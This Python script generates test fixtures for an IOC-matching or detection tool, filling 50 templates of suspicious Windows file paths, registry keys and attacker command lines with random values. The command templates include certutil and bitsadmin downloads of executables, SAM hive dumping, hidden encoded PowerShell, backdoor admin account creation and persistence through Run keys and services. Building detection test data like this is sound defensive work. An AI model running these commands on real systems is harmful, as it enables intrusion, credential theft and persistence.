#!/usr/bin/env python3
"""Builds tests/fixtures/e2e: 50 IOCs over the starter knowledge base and
three ground-truth variants per IOC that differ only in non-capture parts.

Deterministic: rerunning rewrites identical files.
"""

import json
import random
from pathlib import Path

OUT = Path(__file__).resolve().parent.parent / "tests" / "fixtures" / "e2e"

SLOTS = {
    "U": ["alice", "bob", "jsmith", "admin1", "pam", "svc_backup", "m.garcia", "kwong"],
    "P": ["evil", "updater", "svch0st", "winlog32", "msupd", "dllhost64", "chrome_patch", "tmp3a9f", "sync7", "qwe123"],
    "V": ["Updater", "OneDriveSync", "MsCtfMon", "SecurityHealth2", "Adobe_Task", "GoogleUpd", "xsvc"],
    "H": ["10.0.0.5", "192.168.1.20", "dc01", "fileserver", "ws-044", "203.0.113.9"],
    "W": ["P@ssw0rd!", "Winter2024", "hunter2", "Qwerty#1", "changeme"],
    "N": ["4444", "8080", "443", "3389", "9001"],
    "B": ["SQBFAFgA", "JABjAGwA", "aQBlAHgA", "UwB0AGEA"],
    "F": ["name", "sid", "status", "fullname"],
}

# (kind, forms, capture groups). The first form is the IOC; variants may use
# any form. Capture groups are annotated by hand.
TEMPLATES = [
    ("file_path", [r"C:\Users\{U}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\{P}.lnk",
                   r"%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\{P}.lnk"],
     ["Users", "user", "AppData", "Roaming", "Microsoft", "Windows", "Start Menu", "Programs", "Startup"]),
    ("file_path", [r"C:\Users\{U}\AppData\Local\Temp\{P}.exe", r"%TEMP%\{P}.exe"],
     ["Users", "user", "AppData", "Local", "Temp"]),
    ("file_path", [r"C:\Users\Public\{P}.bat"], ["Users", "Public"]),
    ("file_path", [r"C:\Users\Public\Documents\{P}.dll"], ["Users", "Public", "Documents"]),
    ("file_path", [r"C:\Users\{U}\AppData\Roaming\Microsoft\Word\STARTUP\{P}.dotm"],
     ["Users", "user", "AppData", "Roaming", "Microsoft", "Word", "STARTUP"]),
    ("file_path", [r"C:\Users\{U}\AppData\Local\Microsoft\OneDrive\{P}.dll"],
     ["Users", "user", "AppData", "Local", "Microsoft", "OneDrive"]),
    ("file_path", [r"C:\Users\{U}\AppData\LocalLow\{P}\{P}.exe"], ["Users", "user", "AppData", "LocalLow"]),
    ("file_path", [r"C:\Users\{U}\Desktop\{P}.hta"], ["Users", "user", "Desktop"]),
    ("file_path", [r"C:\Windows\System32\Tasks\{P}"], ["Windows", "System32", "Tasks"]),
    ("file_path", [r"C:\Windows\System32\drivers\etc\{P}"], ["Windows", "System32", "drivers", "etc"]),
    ("file_path", [r"C:\Windows\System32\spool\drivers\color\{P}.dat"],
     ["Windows", "System32", "spool", "drivers", "color"]),
    ("file_path", [r"C:\Windows\System32\wbem\{P}.mof", r"%SystemRoot%\System32\wbem\{P}.mof"],
     ["Windows", "System32", "wbem"]),
    ("file_path", [r"C:\Windows\SysWOW64\WindowsPowerShell\v1.0\{P}.ps1"],
     ["Windows", "SysWOW64", "WindowsPowerShell", "v1.0"]),
    ("file_path", [r"C:\Windows\Temp\{P}.exe", r"%WINDIR%\Temp\{P}.exe"], ["Windows", "Temp"]),
    ("file_path", [r"C:\Windows\Prefetch\{P}.EXE-{N}.pf"], ["Windows", "Prefetch"]),
    ("file_path", [r"C:\Windows\Fonts\{P}.ttf"], ["Windows", "Fonts"]),
    ("file_path", [r"C:\Windows\Microsoft.NET\Framework64\{P}.dll"], ["Windows", "Microsoft.NET", "Framework64"]),
    ("file_path", [r"C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\{P}.exe",
                   r"%ProgramData%\Microsoft\Windows\Start Menu\Programs\StartUp\{P}.exe"],
     ["ProgramData", "Microsoft", "Windows", "Start Menu", "Programs", "StartUp"]),
    ("file_path", [r"C:\ProgramData\Microsoft\Crypto\RSA\MachineKeys\{P}"],
     ["ProgramData", "Microsoft", "Crypto", "RSA", "MachineKeys"]),
    ("file_path", [r"C:\Program Files (x86)\Microsoft\Edge\Application\{P}.dll"],
     ["Program Files (x86)", "Microsoft", "Edge", "Application"]),
    ("file_path", [r"C:\PerfLogs\Admin\{P}.exe"], ["PerfLogs", "Admin"]),
    ("file_path", [r"C:\inetpub\wwwroot\{P}.aspx"], ["inetpub", "wwwroot"]),
    ("registry_key", [r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\{V}",
                      r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run\{V}"],
     ["HKCU", "Software", "Microsoft", "Windows", "CurrentVersion", "Run"]),
    ("registry_key", [r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce\{V}",
                      r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce\{V}"],
     ["HKLM", "SOFTWARE", "Microsoft", "Windows", "CurrentVersion", "RunOnce"]),
    ("registry_key", [r"HKCU\Software\Microsoft\Windows NT\CurrentVersion\Winlogon\{V}"],
     ["HKCU", "Software", "Microsoft", "Windows NT", "CurrentVersion", "Winlogon"]),
    ("registry_key", [r"HKCU\Software\Classes\ms-settings\shell\open\command\{V}"],
     ["HKCU", "Software", "Classes", "ms-settings", "shell", "open", "command"]),
    ("registry_key", [r"HKCU\Environment\{V}"], ["HKCU", "Environment"]),
    ("registry_key", [r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\{P}.exe"],
     ["HKLM", "SOFTWARE", "Microsoft", "Windows NT", "CurrentVersion", "Image File Execution Options"]),
    ("registry_key", [r"HKLM\SYSTEM\CurrentControlSet\Services\{P}",
                      r"REGISTRY\MACHINE\SYSTEM\CurrentControlSet\Services\{P}"],
     ["HKLM", "SYSTEM", "CurrentControlSet", "Services"]),
    ("registry_key", [r"HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest\{V}"],
     ["HKLM", "SYSTEM", "CurrentControlSet", "Control", "SecurityProviders", "WDigest"]),
    ("registry_key", [r"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Run\{V}"],
     ["HKLM", "SOFTWARE", "WOW6432Node", "Microsoft", "Windows", "CurrentVersion", "Run"]),
    ("registry_key", [r"HKCR\exefile\shell\open\command\{V}", r"HKEY_CLASSES_ROOT\exefile\shell\open\command\{V}"],
     ["HKCR", "exefile", "shell", "open", "command"]),
    ("registry_key", [r"HKU\.DEFAULT\Software\Microsoft\Windows\CurrentVersion\Run\{V}"],
     ["HKU", ".DEFAULT", "Software", "Microsoft", "Windows", "CurrentVersion", "Run"]),
    ("registry_key", [r"HKLM\SYSTEM\CurrentControlSet\Control\Lsa\{V}"],
     ["HKLM", "SYSTEM", "CurrentControlSet", "Control", "Lsa"]),
    ("command_line", [r"schtasks /create /tn {V} /tr C:\ProgramData\{P}.exe /sc daily",
                      r"schtasks.exe /create /tn {V} /tr C:\ProgramData\{P}.exe /sc daily"],
     ["schtasks", "/create", "/tn", "/tr", "/sc"]),
    ("command_line", [r"schtasks /run /tn {V}"], ["schtasks", "/run", "/tn"]),
    ("command_line", [r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {V} /t REG_SZ /d C:\ProgramData\{P}.exe /f",
                      r"reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {V} /t REG_SZ /d C:\ProgramData\{P}.exe /f"],
     ["reg", "add", "/v", "/t", "/d", "/f"]),
    ("command_line", [r"reg save HKLM\SAM {P}.hiv"], ["reg", "save"]),
    ("command_line", [r"net user {U} {W} /add", r"net.exe user {U} {W} /add"], ["net", "user", "/add"]),
    ("command_line", [r"net localgroup administrators {U} /add"], ["net", "localgroup", "/add"]),
    ("command_line", [r"powershell -nop -w hidden -enc {B}", r"powershell.exe -nop -w hidden -enc {B}"],
     ["powershell", "-nop", "-w", "-enc"]),
    ("command_line", [r"powershell -ep bypass -file \\{H}\share\{P}.ps1"], ["powershell", "-ep", "-file"]),
    ("command_line", [r"wmic process call create {P}.exe"], ["wmic", "process", "call", "create"]),
    ("command_line", [r"wmic useraccount get {F}"], ["wmic", "useraccount", "get"]),
    ("command_line", [r"certutil -urlcache -split -f http://{H}/{P}.exe {P}.exe",
                      r"certutil.exe -urlcache -split -f http://{H}/{P}.exe {P}.exe"],
     ["certutil", "-urlcache", "-split", "-f"]),
    ("command_line", [r"bitsadmin /transfer {V} /download /priority high http://{H}/{P}.exe D:\{P}.exe"],
     ["bitsadmin", "/transfer", "/download", "/priority"]),
    ("command_line", [r"sc create {P} binpath= C:\ProgramData\{P}.exe start= auto"],
     ["sc", "create", "binpath=", "start="]),
    ("command_line", [r"netsh advfirewall firewall add rule name={V} dir=in action=allow protocol=TCP localport={N}"],
     ["netsh", "advfirewall", "firewall", "add", "rule"]),
    ("command_line", [r"cmd /c {P}.bat", r"cmd.exe /c {P}.bat"], ["cmd", "/c"]),
    ("command_line", [r"taskkill /f /im {P}.exe"], ["taskkill", "/f", "/im"]),
]

DATASETS = ["scenario1", "scenario2", "scenario3"]


def fill(form, values):
    out = form
    for key, value in values.items():
        out = out.replace("{" + key + "}", value)
    return out


def pick_values(rng, avoid=None):
    values = {}
    for key, pool in SLOTS.items():
        choices = [v for v in pool if not avoid or v != avoid.get(key)]
        values[key] = rng.choice(choices)
    return values


def main():
    assert len(TEMPLATES) == 50, len(TEMPLATES)
    rng = random.Random(20240611)
    iocs, truths = [], []
    for i, (kind, forms, groups) in enumerate(TEMPLATES):
        base = pick_values(rng)
        iocs.append({"id": f"ioc-{i + 1:04d}", "ioc": fill(forms[0], base)})
        for _ in range(3):
            form = rng.choice(forms)
            text = fill(form, pick_values(rng, avoid=base))
            if rng.random() < 0.3:
                text = text.lower() if kind != "command_line" else text
            truths.append({"text": text, "kind": kind, "capture_groups": groups,
                           "dataset_id": DATASETS[min(i // 17, len(DATASETS) - 1)]})
    OUT.mkdir(parents=True, exist_ok=True)
    (OUT / "iocs.json").write_text(json.dumps(iocs, indent=2) + "\n")
    (OUT / "truths.json").write_text(json.dumps(truths, indent=2) + "\n")
    # First emission compiles but matches nothing; the revision is the template.
    (OUT / "replay_first_fail.json").write_text(
        json.dumps({"emissions": ["(?i)\\Anever-matches-anything\\Z", "{{template}}"]}, indent=2) + "\n")


if __name__ == "__main__":
    main()
